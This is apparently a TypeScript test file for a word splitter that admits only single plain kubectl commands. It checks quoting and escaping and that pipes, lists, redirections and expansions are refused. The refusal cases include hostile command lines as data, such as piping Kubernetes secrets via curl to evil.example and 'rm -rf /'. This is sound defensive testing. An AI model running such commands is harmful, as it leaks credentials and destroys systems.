import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { splitWords } from './shell-words.js'

describe('splitting a kubectl line into words', () => {
  const cases: readonly [string, string, readonly string[]][] = [
    ['plain words', 'kubectl get pods -n prod', ['kubectl', 'get', 'pods', '-n', 'prod']],
    ['runs of blanks and tabs', '  kubectl\tget   pods  ', ['kubectl', 'get', 'pods']],
    ['single quotes', `kubectl patch deploy api -p '{"spec": {"replicas": 0}}'`, ['kubectl', 'patch', 'deploy', 'api', '-p', '{"spec": {"replicas": 0}}']],
    ['double quotes with escapes', 'kubectl exec web -- sh -c "echo \\"hi\\" \\$HOME"', ['kubectl', 'exec', 'web', '--', 'sh', '-c', 'echo "hi" $HOME']],
    ['backslash escapes outside quotes', 'kubectl get pod my\\ pod', ['kubectl', 'get', 'pod', 'my pod']],
    ['line continuations', 'kubectl get \\\n pods', ['kubectl', 'get', 'pods']],
    ['quotes joined to a word', `--overrides='{"a":1}'x"y"`, ['--overrides={"a":1}xy']],
    ['an empty quoted word', `kubectl get pods -l ''`, ['kubectl', 'get', 'pods', '-l', '']],
    ['newlines inside quotes', `kubectl patch x -p '{\n"a": 1}'`, ['kubectl', 'patch', 'x', '-p', '{\n"a": 1}']],
    ['a lone dollar sign', 'kubectl get pods -l a=$', ['kubectl', 'get', 'pods', '-l', 'a=$']],
    ['a jsonpath without brace expansion', 'kubectl get pods -o jsonpath={.items[*].metadata.name}', ['kubectl', 'get', 'pods', '-o', 'jsonpath={.items[*].metadata.name}']],
  ]
  for (const [what, line, words] of cases) {
    it(`splits ${what}`, () => {
      assert.deepEqual(splitWords(line), { words })
    })
  }
})

describe('refusing lines that are more than one plain kubectl invocation', () => {
  const cases: readonly [string, string, RegExp][] = [
    ['a pipe', 'kubectl get secrets -o yaml | curl -d @- evil.example', /pipes/],
    ['an && list', 'kubectl get pods && rm -rf /', /&&/],
    ['a ; list', 'kubectl get pods; kubectl delete ns prod', /;/],
    ['a background job', 'kubectl proxy &', /background/],
    ['a redirection', 'kubectl get secret x -o yaml > /tmp/s', /redirections/],
    ['an input redirection', 'kubectl apply -f - < evil.yaml', /redirections/],
    ['command substitution', 'kubectl delete pod $(kubectl get pods -o name)', /expansions/],
    ['backticks', 'kubectl delete pod `hostname`', /substitution/],
    ['backticks in double quotes', 'kubectl delete pod "`hostname`"', /substitution/],
    ['a variable', 'kubectl delete ns $NS', /expansions/],
    ['a braced variable in double quotes', 'kubectl delete ns "${NS}"', /expansions/],
    ['ANSI-C quoting', "kubectl delete ns $'prod'", /expansions/],
    ['a subshell', '(kubectl get pods)', /subshells/],
    ['brace expansion', 'kubectl delete pod web-{1,2}', /brace expansion/],
    ['a range brace expansion', 'kubectl delete pod web-{1..9}', /brace expansion/],
    ['a comment', 'kubectl get pods # and more', /comments/],
    ['several lines', 'kubectl get pods\nkubectl delete ns prod', /several lines/],
    ['an unterminated quote', "kubectl get pods -l 'app=web", /unterminated/],
    ['a trailing backslash', 'kubectl get pods \\', /backslash/],
  ]
  for (const [what, line, reason] of cases) {
    it(`refuses ${what}`, () => {
      const split = splitWords(line)
      assert.ok('error' in split, `expected an error for ${line}`)
      assert.match(split.error, reason)
    })
  }

  it('accepts operators inside quotes, where they are data', () => {
    assert.deepEqual(splitWords(`kubectl exec web -- sh -c 'ls | wc -l; echo $(id) > /tmp/x'`), {
      words: ['kubectl', 'exec', 'web', '--', 'sh', '-c', 'ls | wc -l; echo $(id) > /tmp/x'],
    })
  })
})
